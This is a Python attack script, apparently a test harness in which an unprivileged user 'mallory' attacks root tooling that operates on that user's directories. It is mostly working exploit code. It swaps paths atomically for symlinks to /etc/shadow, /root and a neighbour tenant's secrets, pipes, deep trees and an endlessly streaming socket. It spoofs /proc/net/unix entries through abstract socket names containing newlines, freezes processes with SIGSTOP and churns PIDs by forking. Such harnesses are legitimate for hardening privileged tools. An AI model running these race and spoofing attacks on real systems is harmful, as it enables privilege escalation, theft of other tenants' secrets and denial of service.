#!/usr/bin/python3
"""What an app's user can do to its own paths while root works on them: ``attack.py KIND...``, until it is killed.

swap    every path in every folder that the user can write becomes, for moments, a link to what is not the app's, a
        named pipe, a deep tree, or a socket that answers without an end; so do the names that root writes aside
forge   sockets whose names look like lines of /proc/net/unix, about the neighbour's
stop    processes of the user that root has started are stopped, and never go on
fork    a process that is never the same one for long
"""

from __future__ import annotations

import ctypes
import os
import random
import signal
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

HOME = "/srv/mallory"
STORE = f"{HOME}/shared/.store-{os.getpid()}"  # an earlier one may be in any state
TOPS = (HOME, "/var/log/mallory", "/run")
LONG = "l" * 255
OURS = ("uwsgi", "attack.py")  # whose processes go on
EXCHANGE = 2  # RENAME_EXCHANGE, rename(2)
# What the user may not change, and partly not read.
TARGETS = (
    "/etc/shadow",
    "/etc/canary",
    "/etc/canary.d",
    "/root",
    "/srv/neighbour/current/secrets/env/SECRET",
    "/srv/neighbour/current/secrets/files/instance",
    "/srv/neighbour/current/src",
    "/srv/neighbour/current/uwsgi.ini",
    "/srv/neighbour/shared",
    f"/proc/self/root/{LONG}",
)
libc = ctypes.CDLL(None, use_errno=True)


def make_decoys() -> list[str]:
    """Make what takes the place of a path; their own paths."""
    Path(STORE).mkdir(parents=True, exist_ok=True)
    os.chdir(STORE)
    for number, target in enumerate(TARGETS):
        with suppress(FileExistsError):
            Path(f"link{number}").symlink_to(target)
    with suppress(FileExistsError):
        os.mkfifo("pipe")
    if not Path("deep").exists():
        Path("deep").mkdir()
        os.chdir("deep")
        for _ in range(300):
            Path(LONG).mkdir()
            os.chdir(LONG)
        os.chdir(STORE)
    with Path("large").open("w") as file:
        file.truncate(10 << 30)
    Path("socket").unlink(missing_ok=True)
    server = socket.socket(socket.AF_UNIX)
    server.bind("socket")
    server.listen(100)
    threading.Thread(target=serve, args=(server,), daemon=True).start()
    return [f"{STORE}/{name}" for name in os.listdir(STORE)]


def serve(server: socket.socket) -> None:
    """Answer each client with a page that never ends."""

    def answer(client: socket.socket) -> None:
        with client, suppress(OSError):
            client.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
            while True:
                client.sendall(b"[" * 65536)

    while True:
        threading.Thread(target=answer, args=(server.accept()[0],), daemon=True).start()


def folders() -> Iterator[str]:
    """The folders that the user can write."""
    for top in TOPS:
        for folder, names, _ in os.walk(top):
            names[:] = [name for name in names if len(name) < 255 and not name.startswith(".store")]
            if os.access(folder, os.W_OK):
                yield folder


def exchange(one: str, other: str) -> None:
    """Let two paths trade places at once."""
    if libc.renameat2(-100, os.fsencode(one), -100, os.fsencode(other), EXCHANGE):
        raise OSError(ctypes.get_errno(), one)


def swap() -> None:
    """See above."""
    decoys = make_decoys()
    while True:
        for folder in list(folders()):
            for name in os.listdir(folder):
                path, decoy = f"{folder}/{name}", random.choice(decoys)
                with suppress(OSError):
                    exchange(path, decoy)
                    time.sleep(random.choice((0, 0.001, 0.02)))
                    exchange(path, decoy)
                for aside in (f".{name}.new", f"{name}.new"):  # what root writes before it renames
                    with suppress(OSError):
                        Path(folder, aside).symlink_to(random.choice(TARGETS))
                        Path(folder, aside).unlink()


def forge() -> None:
    """See above. A name that begins with a zero byte is no file (unix(7))."""
    held = {}
    while True:
        with suppress(OSError):
            for release in os.listdir("/srv/neighbour/releases"):
                if release not in held:
                    path = f"/srv/neighbour/releases/{release}/run/uwsgi.sock"
                    held[release] = [named(f"{row} {path}") for row in ("00010000 0001 01 7", "00000000 0001 03 8")]
        time.sleep(0.01)


def named(row: str) -> socket.socket:
    """A socket after whose line in the table another one seems to follow."""
    found = socket.socket(socket.AF_UNIX)
    with suppress(OSError):
        found.bind(f"\0x\n0: 00000002 00000000 {row}"[:107])
    return found


def stop() -> None:
    """See above."""
    uid = os.getuid()
    while True:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            with suppress(OSError):
                line = Path("/proc", pid, "cmdline").read_text(errors="replace")
                if Path("/proc", pid).stat().st_uid == uid and line and not any(word in line for word in OURS):
                    os.kill(int(pid), signal.SIGSTOP)


def fork() -> None:
    """See above."""
    while True:
        with suppress(BlockingIOError):
            if os.fork():
                os._exit(0)


def main(kinds: list[str]) -> None:
    """Do all that is asked for at the same time, in processes of their own."""
    os.nice(5)
    kinds_of_attack: dict[str, Callable[[], None]] = {"swap": swap, "forge": forge, "stop": stop, "fork": fork}
    for kind in kinds:
        if not os.fork():
            os.setsid()
            kinds_of_attack[kind]()


if __name__ == "__main__":
    main(sys.argv[1:])
